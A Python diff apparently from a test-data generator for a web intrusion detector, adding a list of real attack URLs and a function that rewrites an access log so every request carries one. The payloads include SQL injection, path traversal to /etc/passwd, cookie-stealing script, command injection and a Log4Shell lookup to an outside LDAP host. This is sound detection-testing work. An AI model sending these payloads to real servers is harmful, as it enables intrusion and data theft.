@@ -146,3 +146,29 @@ def netwarden_jsonl(target: Path, lines: int, access_log: Path) -> Path:
             if len(out_lines) >= lines:
                 break
     return repeated(target, [], out_lines, lines)
+
+
+# Real attack payloads (sqlmap, the OWASP testing guide, Log4Shell, botnet probes), as in tests/detect/test_web_attack.py
+ATTACK_URLS = [
+    "/item.php?id=1%27%20OR%20%271%27%3D%271", "/item.php?id=-1+UNION+ALL+SELECT+NULL,NULL,CONCAT(0x71766a7a71,0x4a4b)--+-",
+    "/item.php?id=1%20AND%20SLEEP(5)", "/index.php?page=../../../../etc/passwd",
+    "/index.php?page=..%2f..%2f..%2fetc%2fpasswd", "/search?q=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E",
+    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/index.php?page=php://filter/convert.base64-encode/resource=index.php",
+    "/ping.php?host=127.0.0.1;cat%20/etc/passwd", "/?x=${jndi:ldap://198.51.100.7:1389/a}",
+]
+_REQUEST = re.compile(r'"(GET|POST|HEAD) [^ "]* ')
+
+
+def attack_access_log(target: Path, lines: int) -> Path:
+    """The scaled access log with every request's target replaced by a real attack payload: every line of it
+    raises or updates an alert (the "under attack" case), from the log's own ~1,750 client addresses."""
+    if target.exists() and sum(1 for _ in target.open("rb")) == lines:
+        return target
+    source = scaled_access_log(target.with_name(f"access-{lines}.log"), lines)
+    tmp = target.with_suffix(".tmp")
+    with source.open(encoding="utf-8") as f, tmp.open("w", encoding="utf-8") as out:
+        for n, line in enumerate(f):
+            url = ATTACK_URLS[n % len(ATTACK_URLS)]
+            out.write(_REQUEST.sub(lambda m: f'"{m.group(1)} {url} ', line, count=1))
+    tmp.replace(target)
+    return target
